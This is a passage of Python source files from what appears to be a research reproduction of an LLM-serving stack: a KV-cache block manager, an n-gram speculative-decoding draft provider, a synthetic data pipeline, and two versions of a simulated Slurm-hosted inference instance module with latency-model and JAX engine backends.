        if s.num_tokens > len(s.blocks) * self.block_size:
            if not self._free:
                s.num_tokens -= 1
                raise OutOfBlocks("no free block for decode")
            s.blocks.append(self._free.pop())
            return s.blocks[-1]
        return None

    def free(self, seq_id: int) -> None:
        s = self._seqs.pop(seq_id, None)
        if s is not None:
            self._free.extend(reversed(s.blocks))

    def active_seqs(self) -> list[int]:
        return list(self._seqs)

    # invariant checks (property tests) --------------------------------
    def check_invariants(self) -> None:
        held = [b for s in self._seqs.values() for b in s.blocks]
        assert len(held) == len(set(held)), "double-allocated block"
        assert len(set(held) & set(self._free)) == 0, "freed block in use"
        assert len(held) + len(self._free) == self.num_blocks, "leaked block"
        for s in self._seqs.values():
            assert s.num_tokens <= len(s.blocks) * self.block_size
            assert len(s.blocks) == self.blocks_needed(max(s.num_tokens, 1))
