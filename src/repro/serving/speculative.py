"""Draft providers for self-speculative decoding.

The engine's speculative fast path (DESIGN.md §"Speculative decoding") is
draft-source-agnostic: any object with ``propose(request, max_len) ->
list[int]`` can supply candidate continuations, and the jitted verify pass
makes acceptance *exact* — a wrong draft costs only the wasted verify
lanes, never a wrong token.  The default provider is prompt-lookup
(n-gram) self-speculation: propose the continuation that followed the
most recent earlier occurrence of the sequence's current tail n-gram in
its own prompt + generated ids.  No draft model, no extra memory, and it
shines exactly on the paper's target traffic — RAG / long-document chat,
where the model largely restates spans of its context.

The hook is where a small draft *model* slots in later (e.g. a
``llama3_2_1b`` drafting for ``llama3_70b``): such a provider would run
its own decode to produce ``max_len`` tokens and return them here; the
engine's verify/rollback machinery is identical.
"""
from __future__ import annotations

import numpy as np


class DraftProvider:
    """Interface: propose up to ``max_len`` draft tokens for ``r``."""

    def propose(self, r, max_len: int) -> list[int]:
        raise NotImplementedError


class NgramDraftProvider(DraftProvider):
    """Prompt-lookup decoding: match the tail n-gram of (prompt + output)
    against earlier occurrences and propose what followed the most recent
    one.  Larger n-grams are tried first (``max_ngram`` down to
    ``min_ngram``) — a longer match is a stronger signal.  Stateless: the
    search runs over the request's ids on every call, so preemption,
    swap-resume, and forked children need no provider bookkeeping.
    """

    def __init__(self, max_ngram: int = 3, min_ngram: int = 1):
        assert 1 <= min_ngram <= max_ngram
        self.max_ngram = max_ngram
        self.min_ngram = min_ngram

    def propose(self, r, max_len: int) -> list[int]:
        if max_len <= 0:
            return []
        ctx = np.concatenate(
            [np.asarray(r.prompt, np.int64),
             np.asarray(r.output, np.int64)]) if len(r.output) else \
            np.asarray(r.prompt, np.int64)
        L = len(ctx)
        for n in range(self.max_ngram, self.min_ngram - 1, -1):
            if L <= n:
                continue
            tail = ctx[-n:]
            win = np.lib.stride_tricks.sliding_window_view(ctx, n)
            hits = np.all(win == tail, axis=1)
            hits[-1] = False          # the tail matching itself
            idx = np.nonzero(hits)[0]
            if idx.size == 0:
                continue
            # most recent match whose continuation can fill the whole
            # draft budget; matches near the end of the context have
            # almost nothing after them (on loopy/self-repeating text the
            # *very* latest match is typically one token from the tail),
            # so falling back to recency-first would waste most of the
            # verify lanes.  When no match has a full continuation, the
            # earliest one has the longest partial.
            full = idx[idx + n + max_len <= L]
            j = int(full[-1] if full.size else idx[0]) + n
            cont = ctx[j:j + max_len]
            if cont.size:
                return [int(t) for t in cont]
        return []
