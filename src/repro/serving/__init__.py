from repro.serving.engine import Engine, EngineRequest, ReqState  # noqa: F401
from repro.serving.kv_cache import BlockManager, OutOfBlocks  # noqa: F401
from repro.serving.sampling import SamplingParams, sample  # noqa: F401
