from repro.serving.engine import (  # noqa: F401
    Engine, EngineRequest, ReqState, SequenceGroup)
from repro.serving.kv_cache import BlockManager, OutOfBlocks  # noqa: F401
from repro.serving.sampling import (  # noqa: F401
    SamplingParams, sample_rows, sequence_seed)
