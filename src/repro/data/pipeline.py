"""Deterministic synthetic data pipeline.

Two sources:
  * ``SyntheticLM`` — a seeded Zipf-distributed token stream with injected
    n-gram structure (so models actually reduce loss on it), packed into
    fixed-length sequences with document separators, sharded by host.
  * ``ByteCorpus`` — byte-level tokenization of real text strings (used by
    examples so generations are inspectable).
"""
from __future__ import annotations

from dataclasses import dataclass
from typing import Iterator

import numpy as np


@dataclass
class SyntheticLM:
    vocab_size: int
    seq_len: int
    batch_size: int
    seed: int = 0
    ngram: int = 3
    doc_len_mean: int = 512
    host_id: int = 0
    num_hosts: int = 1

    def __post_init__(self):
        rng = np.random.default_rng(self.seed)
        # fixed n-gram transition structure: each (t-1) token pair prefers a
        # successor; mixture with zipf noise
        self._succ = rng.integers(0, self.vocab_size,
                                  size=(self.vocab_size,), dtype=np.int64)
        self._rng = np.random.default_rng(
            (self.seed, self.host_id))
        self.bos = 0
        self.eos = 1

    def _doc(self) -> np.ndarray:
        rng = self._rng
        n = max(8, int(rng.exponential(self.doc_len_mean)))
        out = np.empty((n,), np.int64)
        tok = int(rng.zipf(1.3)) % self.vocab_size
        for i in range(n):
            if rng.random() < 0.7:
                tok = int(self._succ[tok])      # learnable structure
            else:
                tok = int(rng.zipf(1.3)) % self.vocab_size
            out[i] = tok
        return out

    def batches(self) -> Iterator[dict]:
        """Yields {'tokens': [B, seq_len+1] int32} forever (packed docs)."""
        buf = np.empty((0,), np.int64)
        need = self.batch_size * (self.seq_len + 1)
        while True:
            while len(buf) < need:
                buf = np.concatenate([buf, [self.bos], self._doc(),
                                      [self.eos]])
            chunk, buf = buf[:need], buf[need:]
            yield {"tokens": chunk.reshape(
                self.batch_size, self.seq_len + 1).astype(np.int32)}


class ByteCorpus:
    """Byte-level tokenizer + corpus for human-inspectable demos."""

    vocab_size = 256 + 2
    BOS, EOS = 256, 257

    @classmethod
    def encode(cls, text: str) -> np.ndarray:
        return np.frombuffer(text.encode(), np.uint8).astype(np.int32)

    @classmethod
    def decode(cls, ids) -> str:
        return bytes(int(i) for i in ids if 0 <= int(i) < 256).decode(
            errors="replace")

    def __init__(self, texts: list[str], seq_len: int, batch_size: int,
                 seed: int = 0):
        self.texts = texts
        self.seq_len = seq_len
        self.batch_size = batch_size
        self._rng = np.random.default_rng(seed)

    def batches(self) -> Iterator[dict]:
        stream = np.concatenate(
            [np.concatenate([[self.BOS], self.encode(t), [self.EOS]])
             for t in self.texts]).astype(np.int32)
        need = self.batch_size * (self.seq_len + 1)
        pos = 0
        while True:
            out = np.empty((need,), np.int32)
            for i in range(need):
                out[i] = stream[(pos + i) % len(stream)]
            pos = (pos + need) % len(stream)
            yield {"tokens": out.reshape(self.batch_size, self.seq_len + 1)}
