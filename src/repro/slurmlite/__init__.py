from repro.slurmlite.clock import SimClock, WallClock  # noqa: F401
from repro.slurmlite.cluster import (  # noqa: F401
    ACTIVE, Job, JobSpec, JobState, Node, SlurmCluster)
from repro.slurmlite.instances import (  # noqa: F401
    Backend, InstanceRegistry, InstanceRuntime, InstanceState,
    JaxEngineBackend, LatencyModelBackend, Request, Response)
from repro.slurmlite.sbatch import render_sbatch  # noqa: F401
