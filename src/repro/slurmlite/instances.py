"""LLM-server instances living inside Slurm jobs.

When the Chat AI scheduler submits a service job, the job's payload carries
the model name and port; on job start an :class:`InstanceRuntime` boots
(LOADING for ``load_time`` sim-seconds — the paper reports up to ~10 min for
70B models — then READY) and serves requests on ``(node, port)``.

Two backends:
  * ``LatencyModelBackend`` — calibrated first-token/per-token latencies
    (paper Table 1/2 constants) for large-scale simulation,
  * ``JaxEngineBackend`` — drives the real JAX serving engine cooperatively
    on the sim clock (one ``Engine.step`` per pump tick), streaming each
    token out through ``on_chunk`` as SSE frames.

``Backend.infer`` returns an optional *cancel handle*: calling it aborts
the request mid-flight (client disconnect), freeing whatever the backend
holds for it — KV blocks on the real engine — and resolving ``done`` with
status 499.
"""
from __future__ import annotations

import inspect
import itertools
from collections import OrderedDict
from dataclasses import dataclass, field
from enum import Enum
from typing import Callable, Iterator, Optional

from repro.slurmlite.clock import SimClock
from repro.slurmlite.cluster import Job, SlurmCluster


class InstanceState(str, Enum):
    LOADING = "loading"
    READY = "ready"
    DEAD = "dead"


@dataclass
class Request:
    request_id: int
    model: str
    prompt_tokens: int
    max_new_tokens: int
    stream: bool = False
    payload: dict = field(default_factory=dict)


@dataclass
class Response:
    request_id: int
    status: int
    tokens: list = field(default_factory=list)
    first_token_time: Optional[float] = None
    finish_time: Optional[float] = None
    error: str = ""
    # n>1 sequence groups: per-choice token lists, best-first (choices[0]
    # is also what ``tokens`` carries)
    choices: Optional[list] = None
    # terminal dispatch failures (retries exhausted, deadline expired,
    # retry budget denied) attach the OpenAI error envelope the gateway
    # should serialize verbatim instead of synthesizing its own
    envelope: Optional[dict] = None


class Backend:
    def infer(self, inst: "InstanceRuntime", req: Request,
              done: Callable[[Response], None],
              on_chunk: Optional[Callable] = None) -> Optional[Callable]:
        """Serve one request.  Returns a cancel handle (or None)."""
        raise NotImplementedError


class LatencyModelBackend(Backend):
    """Token-latency model: first token after ``first_token_s`` plus queueing;
    subsequent tokens at ``per_token_s``; concurrency beyond
    ``max_concurrency`` queues (continuous batching approximated by a
    concurrency-dependent slowdown, matching the paper's throughput ladder).

    Also simulates the serving engine's prefix cache at the key level:
    each request's prompt head is hashed with the same incremental chain
    keys the real engine registers (``core/prefix_index.request_chain_keys``,
    so cloud-interface-computed keys match instance-resident ones), hits
    shorten the prefill part of the first-token latency, and the resident
    key set — LRU-bounded, so old keys retract naturally — is what
    ``cached_block_keys()`` publishes to the scheduler's prefix index.
    """

    def __init__(self, first_token_s: float = 0.0326,
                 per_token_s: float = 0.035, max_concurrency: int = 64,
                 batching_slowdown: float = 0.35,
                 cache_block_size: int = 16, cache_capacity_keys: int = 512,
                 prefill_s_per_token: float = 0.000001):
        self.first_token_s = first_token_s
        self.per_token_s = per_token_s
        self.max_concurrency = max_concurrency
        self.batching_slowdown = batching_slowdown
        self.cache_block_size = cache_block_size
        self.cache_capacity_keys = cache_capacity_keys
        self.prefill_s_per_token = prefill_s_per_token
        self._cached: "OrderedDict[str, None]" = OrderedDict()
        self.prefill_tokens_computed = 0
        self.prefill_tokens_cached = 0
        self.cancelled_requests = 0
        self.killed_requests = 0
        self._queue: list = []
        self._inflight: list = []    # (req, done, settled) running right now
        self._dead = False

    def cached_block_keys(self) -> list:
        return list(self._cached)

    def _prefill_split(self, req) -> tuple[int, int]:
        """(cached_tokens, computed_tokens) for this request's prompt,
        updating the simulated resident-key LRU."""
        # deferred import: repro.core.__init__ imports the scheduler,
        # which imports this package — a module-level import would cycle
        from repro.core.prefix_index import request_chain_keys
        keys = request_chain_keys(req.payload, self.cache_block_size)
        hits = 0
        for k in keys:
            if k not in self._cached:
                break
            self._cached.move_to_end(k)
            hits += 1
        for k in keys[hits:]:
            self._cached[k] = None
            while len(self._cached) > self.cache_capacity_keys:
                self._cached.popitem(last=False)      # evict LRU
        cached = hits * self.cache_block_size
        total = max(req.prompt_tokens, 0)
        cached = min(cached, total)
        return cached, total - cached

    def infer(self, inst, req, done, on_chunk=None):
        if inst.active >= self.max_concurrency:
            # continuous-batching admission control: excess requests queue
            entry = (req, done, on_chunk)
            self._queue.append(entry)

            def cancel_queued():
                if entry in self._queue:
                    self._queue.remove(entry)
                    self.cancelled_requests += 1
                    done(Response(req.request_id, 499, error="cancelled",
                                  finish_time=inst.clock.now()))
            return cancel_queued
        return self._run(inst, req, done, on_chunk)

    def _run(self, inst, req, done, on_chunk=None):
        clock = inst.clock
        start = clock.now()
        inst.active += 1
        conc = min(inst.active, self.max_concurrency)
        # continuous batching: per-token time degrades sub-linearly
        per_tok = self.per_token_s * (1 + self.batching_slowdown * (conc - 1))
        cached, computed = self._prefill_split(req)
        self.prefill_tokens_cached += cached
        self.prefill_tokens_computed += computed
        t_first = self.first_token_s + self.prefill_s_per_token * computed
        t_total = t_first + per_tok * max(req.max_new_tokens - 1, 0)
        settled = {"done": False}
        entry = (req, done, settled)
        self._inflight.append(entry)
        # a migrated stream resumes token numbering where the dead
        # replica stopped (the relay's resume-offset contract)
        offset = int(req.payload.get("resume_offset", 0))

        def close():
            settled["done"] = True
            inst.active -= 1
            if entry in self._inflight:
                self._inflight.remove(entry)

        if req.stream and on_chunk is not None:
            for i in range(req.max_new_tokens):
                clock.schedule(t_first + per_tok * i,
                               (lambda i=i: settled["done"]
                                or on_chunk((offset + i, clock.now()))))

        def finish():
            if settled["done"]:
                return                   # cancelled/killed before completion
            close()
            done(Response(req.request_id, 200,
                          tokens=list(range(offset,
                                            offset + req.max_new_tokens)),
                          first_token_time=start + t_first,
                          finish_time=clock.now()))
            self._drain(inst)

        def cancel():
            if settled["done"]:
                return
            close()                      # scheduled chunk events go quiet
            self.cancelled_requests += 1
            done(Response(req.request_id, 499, error="cancelled",
                          first_token_time=(start + t_first
                                            if clock.now() >= start + t_first
                                            else None),
                          finish_time=clock.now()))
            self._drain(inst)            # the freed slot admits the queue

        clock.schedule(t_total, finish)
        return cancel

    def _drain(self, inst) -> None:
        if self._dead:
            return                       # never admit work onto a corpse
        if self._queue and inst.active < self.max_concurrency:
            nreq, ndone, nchunk = self._queue.pop(0)
            self._run(inst, nreq, ndone, nchunk)

    def shutdown(self, inst) -> None:
        """Instance killed (job died / node failed): settle every
        in-flight request with a 503-style failure — their scheduled
        ``finish()`` events go quiet — and fail the queue instead of
        admitting it onto a DEAD instance."""
        self._dead = True
        flights, self._inflight = self._inflight, []
        for req, done, settled in flights:
            if settled["done"]:
                continue
            settled["done"] = True
            inst.active -= 1
            self.killed_requests += 1
            done(Response(req.request_id, 503, error="instance killed",
                          finish_time=inst.clock.now()))
        queued, self._queue = self._queue, []
        for req, done, _chunk in queued:
            self.killed_requests += 1
            done(Response(req.request_id, 503, error="instance killed",
                          finish_time=inst.clock.now()))


class JaxEngineBackend(Backend):
    """Drives a real ``repro.serving.engine.Engine`` cooperatively on the
    sim clock: requests are submitted to the engine's continuous-batching
    queue and a pump event runs one ``Engine.step`` per ``step_period``
    sim-seconds, so concurrent requests genuinely batch instead of
    serializing behind a blocking ``generate`` loop.

    Streaming: a per-group engine sink frames every harvested token as an
    SSE ``chat.completion.chunk`` (``serving/api.py`` framing — the wire
    format of the whole chain) and emits it to ``on_chunk``.  When
    ``on_chunk`` is a flow-controlled ``Stream`` whose buffer crossed its
    watermark, the group is paused in the engine (``pause_group``) and
    resumed by the stream's writable callback — the backpressure contract
    (DESIGN.md §Streaming).

    The returned cancel handle aborts the group (``Engine.abort_group``),
    freeing its KV blocks mid-generation.
    """

    def __init__(self, engine, step_period: float = 0.01,
                 decode: Optional[Callable] = None):
        self.engine = engine
        self.step_period = step_period
        from repro.serving.api import default_token_decode
        self.decode = decode or default_token_decode
        self._flights: dict[int, dict] = {}     # leader rid -> flight
        self._pump_scheduled = False
        self._chunks_emitted = 0

    def cached_block_keys(self) -> list:
        return self.engine.cached_block_keys()

    def swap_headroom(self) -> int:
        sw = self.engine.swap_stats()
        return int(sw["host_blocks"] - sw["host_blocks_used"])

    def replica_geometry(self) -> dict:
        """Replica parallelism geometry for the scheduler heartbeat: the
        tensor-parallel degree plus which cache leaves actually shard —
        what the router needs to reason about per-device KV headroom on
        heterogeneous replicas."""
        caps = self.engine.capabilities()
        return {
            "tp": caps["tp"],
            "kv_block_bytes": self.engine.kv_block_bytes(),
            "sharded_leaves": [
                {"path": l["path"], "shards": l["shards"],
                 "shard_dim": l["shard_dim"]}
                for l in caps["leaves"] if l["shards"] > 1],
        }

    def _params(self, req: Request):
        from repro.serving.sampling import SamplingParams
        p = req.payload
        n = int(p.get("n", 1))
        best_of = p.get("best_of")
        seed = p.get("seed")
        # per-request speculative-decoding controls ride the payload as
        # the API's {"speculation": {...}} extension object
        spec = p.get("speculation") or {}
        max_draft = spec.get("max_draft_len")
        return SamplingParams(
            temperature=float(p.get("temperature", 0.0)),
            top_p=float(p.get("top_p", 1.0)),
            max_new_tokens=req.max_new_tokens,
            n=n, best_of=n if best_of is None else int(best_of),
            seed=None if seed is None else int(seed),
            speculation=bool(spec.get("enabled", True)),
            max_draft_len=None if max_draft is None else int(max_draft))

    def infer(self, inst, req, done, on_chunk=None):
        start = inst.clock.now()
        prompt = req.payload.get("prompt_ids")
        # stream migration: tokens the dead replica already emitted ride
        # the payload and extend the prompt, so the re-prefill is mostly
        # prefix-cache hits and decoding continues exactly where the
        # client's stream stopped
        resume = [int(t) for t in (req.payload.get("resume_tokens") or ())]
        if not prompt:
            # bodies arriving via the cloud interface carry token counts,
            # not ids: stand in a deterministic prompt of that length
            # (minus the resumed tail, which was generated, not prompted)
            n = max(int(req.prompt_tokens) - len(resume), 1)
            prompt = list(range(1, n + 1))
        prompt = list(prompt) + resume
        try:
            rid = self.engine.submit(
                prompt, self._params(req),
                # the salt must reach the engine: routed chain keys
                # include it (request_chain_keys), so resident keys must
                # too — it is what keeps differently-salted tenants off
                # each other's blocks
                cache_salt=req.payload.get("cache_salt", ""))
        except ValueError as e:
            done(Response(req.request_id, 400, error=str(e),
                          finish_time=inst.clock.now()))
            return None
        inst.active += 1
        fl = {"req": req, "done": done, "start": start, "settled": False,
              "cid": f"chatcmpl-{req.request_id:012d}"}
        self._flights[rid] = fl

        if req.stream and on_chunk is not None:
            from repro.serving.api import sse_chunk
            backpressured = hasattr(on_chunk, "writable")

            def sink(child_idx, token):
                on_chunk(sse_chunk(
                    fl["cid"], 0, req.model, child_idx,
                    {"content": self.decode([token])}, None, token=token))
                self._chunks_emitted += 1
                if backpressured and not on_chunk.writable:
                    # consumer lagging: take this group out of the step
                    # loop; its slots/blocks stay put, everyone else
                    # keeps decoding
                    self.engine.pause_group(rid)
                    on_chunk.on_writable(self._resumer(inst, rid))

            self.engine.add_sink(rid, sink)
        self._ensure_pump(inst)

        def cancel():
            if fl["settled"]:
                return
            self._settle(inst, rid, Response(
                req.request_id, 499, error="cancelled",
                finish_time=inst.clock.now()))
            # frees the group's device blocks (and any host-swapped
            # slots) mid-generation — the disconnect-cancel contract
            self.engine.abort_group(rid)
        return cancel

    def _resumer(self, inst, rid):
        def resume():
            if rid in self._flights:
                self.engine.resume_group(rid)
                self._ensure_pump(inst)
        return resume

    def shutdown(self, inst) -> None:
        """Instance killed: settle every in-flight group with 503 and
        abort it in the engine — no token may be emitted from, and no KV
        block held by, a DEAD instance."""
        for rid in list(self._flights):
            fl = self._flights[rid]
            self._settle(inst, rid, Response(
                fl["req"].request_id, 503, error="instance killed",
                finish_time=inst.clock.now()))
            self.engine.abort_group(rid)

    def _settle(self, inst, rid, resp: Response) -> None:
        fl = self._flights.pop(rid, None)
        if fl is None or fl["settled"]:
            return
        fl["settled"] = True
        inst.active -= 1
        fl["done"](resp)

    def _ensure_pump(self, inst) -> None:
        if self._pump_scheduled:
            return
        self._pump_scheduled = True
        inst.clock.schedule(self.step_period, lambda: self._pump(inst))

    def _pump(self, inst) -> None:
        self._pump_scheduled = False
        self.engine.step()
        for rid in list(self._flights):
            g = self.engine.groups.get(rid)
            if g is None or not g.finished:
                continue
            fl = self._flights[rid]
            req, leader = fl["req"], self.engine.requests[rid]
            ranked = g.best(self._params(req).n)
            self._settle(inst, rid, Response(
                req.request_id, 200,
                tokens=list(ranked[0].output),
                choices=[list(r.output) for r in ranked],
                first_token_time=leader.t_first_token,
                finish_time=inst.clock.now()))
        # stall the pump when everything live is backpressure-paused;
        # the stream's writable callback restarts it
        if self._flights and self.engine.has_runnable_work():
            self._ensure_pump(inst)


class InstanceRuntime:
    _ids = itertools.count(1)
    # backend class -> whether its infer() accepts on_chunk (signature
    # inspection, cached; a try/except TypeError probe would swallow
    # genuine TypeErrors from inside the backend or the done callback
    # and silently double-run the request)
    _accepts_chunks: dict[type, bool] = {}

    def __init__(self, clock: SimClock, job: Job, model: str, port: int,
                 load_time: float, backend: Backend):
        self.instance_id = next(self._ids)
        self.clock = clock
        self.job = job
        self.model = model
        self.port = port
        self.state = InstanceState.LOADING
        self.backend = backend
        self.active = 0          # in-flight requests
        self.served = 0
        clock.schedule(load_time, self._ready)

    def _ready(self):
        if self.state == InstanceState.LOADING:
            self.state = InstanceState.READY

    def kill(self):
        """The job died (walltime, node failure, scancel).  Settling is
        part of the contract: every in-flight and queued request on this
        instance fails *now* with a retryable 503 — a dead replica must
        never fire a late 200 from a clock event scheduled while it was
        alive, and its queue must never drain onto the corpse."""
        if self.state == InstanceState.DEAD:
            return
        self.state = InstanceState.DEAD
        shutdown = getattr(self.backend, "shutdown", None)
        if shutdown is not None:
            shutdown(self)

    # HTTP-ish surface -------------------------------------------------
    def probe(self) -> int:
        """GET /health"""
        return 200 if self.state == InstanceState.READY else 503

    def cached_block_keys(self) -> list:
        """GET /cache/keys — resident prefix-cache block keys, published
        to the scheduler's prefix index on each heartbeat.  Backends
        without a cache report none (and simply never attract affinity)."""
        if self.state != InstanceState.READY:
            return []
        fn = getattr(self.backend, "cached_block_keys", None)
        return list(fn()) if fn is not None else []

    def swap_headroom(self) -> int:
        """GET /swap/headroom — free host-swap-pool blocks, published to
        the scheduler on each heartbeat as the router's swap-aware
        tiebreak.  Backends without a host pool report 0 (and simply
        never win a headroom tiebreak)."""
        if self.state != InstanceState.READY:
            return 0
        fn = getattr(self.backend, "swap_headroom", None)
        return int(fn()) if fn is not None else 0

    def replica_geometry(self) -> dict:
        """GET /geometry — the replica's parallelism geometry (tp degree,
        sharded cache leaves, per-device KV block bytes), carried on the
        scheduler heartbeat into the routing table.  Backends without an
        engine report {} (single-device semantics)."""
        if self.state != InstanceState.READY:
            return {}
        fn = getattr(self.backend, "replica_geometry", None)
        return dict(fn()) if fn is not None else {}

    def _backend_accepts_chunks(self) -> bool:
        cls = type(self.backend)
        cached = InstanceRuntime._accepts_chunks.get(cls)
        if cached is None:
            try:
                params = inspect.signature(cls.infer).parameters
                cached = "on_chunk" in params or any(
                    p.kind is inspect.Parameter.VAR_KEYWORD
                    for p in params.values())
            except (TypeError, ValueError):      # builtins/oddballs
                cached = False
            InstanceRuntime._accepts_chunks[cls] = cached
        return cached

    def infer(self, req: Request, done: Callable[[Response], None],
              on_chunk: Optional[Callable] = None) -> Optional[Callable]:
        """POST /v1/... — serve one request; returns the backend's cancel
        handle (or None) so a dropped stream can abort mid-generation."""
        if self.state != InstanceState.READY:
            done(Response(req.request_id, 503, error="loading"))
            return None
        self.served += 1
        if self._backend_accepts_chunks():
            return self.backend.infer(self, req, done, on_chunk=on_chunk)
        return self.backend.infer(self, req, done)


class InstanceRegistry:
    """Maps (node, port) -> live instance; the sim-side 'network'."""

    def __init__(self):
        self._by_addr: dict[tuple[str, int], InstanceRuntime] = {}

    def register(self, inst: InstanceRuntime) -> None:
        self._by_addr[(inst.job.node, inst.port)] = inst

    def deregister(self, inst: InstanceRuntime) -> None:
        self._by_addr.pop((inst.job.node, inst.port), None)

    def lookup(self, node: str, port: int) -> Optional[InstanceRuntime]:
        return self._by_addr.get((node, port))

    def all(self) -> list[InstanceRuntime]:
        return list(self._by_addr.values())
