"""LLM-server instances living inside Slurm jobs.

When the Chat AI scheduler submits a service job, the job's payload carries
the model name and port; on job start an :class:`InstanceRuntime` boots
(LOADING for ``load_time`` sim-seconds — the paper reports up to ~10 min for
70B models — then READY) and serves requests on ``(node, port)``.

Two backends:
  * ``LatencyModelBackend`` — calibrated first-token/per-token latencies
    (paper Table 1/2 constants) for large-scale simulation,
  * ``JaxEngineBackend`` — drives the real JAX serving engine, used by the
    end-to-end examples.
"""
from __future__ import annotations

import itertools
from collections import OrderedDict
from dataclasses import dataclass, field
from enum import Enum
from typing import Callable, Iterator, Optional

from repro.slurmlite.clock import SimClock
from repro.slurmlite.cluster import Job, SlurmCluster


class InstanceState(str, Enum):
    LOADING = "loading"
    READY = "ready"
    DEAD = "dead"


@dataclass
class Request:
    request_id: int
    model: str
    prompt_tokens: int
    max_new_tokens: int
    stream: bool = False
    payload: dict = field(default_factory=dict)


@dataclass
class Response:
    request_id: int
    status: int
    tokens: list = field(default_factory=list)
    first_token_time: Optional[float] = None
    finish_time: Optional[float] = None
    error: str = ""


class Backend:
    def infer(self, inst: "InstanceRuntime", req: Request,
              done: Callable[[Response], None],
              on_chunk: Optional[Callable] = None) -> None:
        raise NotImplementedError


class LatencyModelBackend(Backend):
    """Token-latency model: first token after ``first_token_s`` plus queueing;
    subsequent tokens at ``per_token_s``; concurrency beyond
    ``max_concurrency`` queues (continuous batching approximated by a
    concurrency-dependent slowdown, matching the paper's throughput ladder).

    Also simulates the serving engine's prefix cache at the key level:
    each request's prompt head is hashed with the same incremental chain
    keys the real engine registers (``core/prefix_index.request_chain_keys``,
    so cloud-interface-computed keys match instance-resident ones), hits
    shorten the prefill part of the first-token latency, and the resident
    key set — LRU-bounded, so old keys retract naturally — is what
    ``cached_block_keys()`` publishes to the scheduler's prefix index.
    """

    def __init__(self, first_token_s: float = 0.0326,
                 per_token_s: float = 0.035, max_concurrency: int = 64,
                 batching_slowdown: float = 0.35,
                 cache_block_size: int = 16, cache_capacity_keys: int = 512,
                 prefill_s_per_token: float = 0.000001):
        self.first_token_s = first_token_s
        self.per_token_s = per_token_s
        self.max_concurrency = max_concurrency
        self.batching_slowdown = batching_slowdown
        self.cache_block_size = cache_block_size
        self.cache_capacity_keys = cache_capacity_keys
        self.prefill_s_per_token = prefill_s_per_token
        self._cached: "OrderedDict[str, None]" = OrderedDict()
        self.prefill_tokens_computed = 0
        self.prefill_tokens_cached = 0
        self._queue: list = []

    def cached_block_keys(self) -> list:
        return list(self._cached)

    def _prefill_split(self, req) -> tuple[int, int]:
        """(cached_tokens, computed_tokens) for this request's prompt,
        updating the simulated resident-key LRU."""
        # deferred import: repro.core.__init__ imports the scheduler,
        # which imports this package — a module-level import would cycle
        from repro.core.prefix_index import request_chain_keys
        keys = request_chain_keys(req.payload, self.cache_block_size)
        hits = 0
        for k in keys:
            if k not in self._cached:
                break
            self._cached.move_to_end(k)
            hits += 1
        for k in keys[hits:]:
            self._cached[k] = None
            while len(self._cached) > self.cache_capacity_keys:
                self._cached.popitem(last=False)      # evict LRU
        cached = hits * self.cache_block_size
        total = max(req.prompt_tokens, 0)
        cached = min(cached, total)
        return cached, total - cached

    def infer(self, inst, req, done, on_chunk=None):
        if inst.active >= self.max_concurrency:
            # continuous-batching admission control: excess requests queue
            self._queue.append((req, done, on_chunk))
            return
        self._run(inst, req, done, on_chunk)

    def _run(self, inst, req, done, on_chunk=None):
        clock = inst.clock
        start = clock.now()
        inst.active += 1
        conc = min(inst.active, self.max_concurrency)
        # continuous batching: per-token time degrades sub-linearly
        per_tok = self.per_token_s * (1 + self.batching_slowdown * (conc - 1))
        cached, computed = self._prefill_split(req)
        self.prefill_tokens_cached += cached
        self.prefill_tokens_computed += computed
        t_first = self.first_token_s + self.prefill_s_per_token * computed
        t_total = t_first + per_tok * max(req.max_new_tokens - 1, 0)

        if req.stream and on_chunk is not None:
            for i in range(req.max_new_tokens):
                clock.schedule(t_first + per_tok * i,
                               (lambda i=i: on_chunk((i, clock.now()))))

        def finish():
            inst.active -= 1
            done(Response(req.request_id, 200,
                          tokens=list(range(req.max_new_tokens)),
                          first_token_time=start + t_first,
                          finish_time=clock.now()))
            if self._queue and inst.active < self.max_concurrency:
                nreq, ndone, nchunk = self._queue.pop(0)
                self._run(inst, nreq, ndone, nchunk)
        clock.schedule(t_total, finish)


class JaxEngineBackend(Backend):
    """Runs a real ``repro.serving.engine.Engine`` synchronously."""

    def __init__(self, engine):
        self.engine = engine

    def cached_block_keys(self) -> list:
        return self.engine.cached_block_keys()

    def swap_headroom(self) -> int:
        sw = self.engine.swap_stats()
        return int(sw["host_blocks"] - sw["host_blocks_used"])

    def infer(self, inst, req, done):
        start = inst.clock.now()
        out = self.engine.generate(
            prompt=req.payload.get("prompt_ids"),
            max_new_tokens=req.max_new_tokens,
            temperature=req.payload.get("temperature", 0.0),
            # the salt must reach the engine: routed chain keys include it
            # (request_chain_keys), so resident keys must too — and it is
            # what keeps differently-salted tenants off each other's blocks
            cache_salt=req.payload.get("cache_salt", ""),
        )
        done(Response(req.request_id, 200, tokens=list(out),
                      first_token_time=start, finish_time=inst.clock.now()))


class InstanceRuntime:
    _ids = itertools.count(1)

    def __init__(self, clock: SimClock, job: Job, model: str, port: int,
                 load_time: float, backend: Backend):
        self.instance_id = next(self._ids)
        self.clock = clock
        self.job = job
        self.model = model
        self.port = port
        self.state = InstanceState.LOADING
        self.backend = backend
        self.active = 0          # in-flight requests
        self.served = 0
        clock.schedule(load_time, self._ready)

    def _ready(self):
        if self.state == InstanceState.LOADING:
            self.state = InstanceState.READY

    def kill(self):
        self.state = InstanceState.DEAD

    # HTTP-ish surface -------------------------------------------------
    def probe(self) -> int:
        """GET /health"""
        return 200 if self.state == InstanceState.READY else 503

    def cached_block_keys(self) -> list:
        """GET /cache/keys — resident prefix-cache block keys, published
        to the scheduler's prefix index on each heartbeat.  Backends
        without a cache report none (and simply never attract affinity)."""
        if self.state != InstanceState.READY:
            return []
        fn = getattr(self.backend, "cached_block_keys", None)
        return list(fn()) if fn is not None else []

    def swap_headroom(self) -> int:
        """GET /swap/headroom — free host-swap-pool blocks, published to
        the scheduler on each heartbeat as the router's swap-aware
        tiebreak.  Backends without a host pool report 0 (and simply
        never win a headroom tiebreak)."""
        if self.state != InstanceState.READY:
            return 0
        fn = getattr(self.backend, "swap_headroom", None)
        return int(fn()) if fn is not None else 0

    def infer(self, req: Request, done: Callable[[Response], None],
              on_chunk: Optional[Callable] = None) -> None:
        if self.state != InstanceState.READY:
            done(Response(req.request_id, 503, error="loading"))
            return
        self.served += 1
        try:
            self.backend.infer(self, req, done, on_chunk=on_chunk)
        except TypeError:   # backends without streaming support
            self.backend.infer(self, req, done)


class InstanceRegistry:
    """Maps (node, port) -> live instance; the sim-side 'network'."""

    def __init__(self):
        self._by_addr: dict[tuple[str, int], InstanceRuntime] = {}

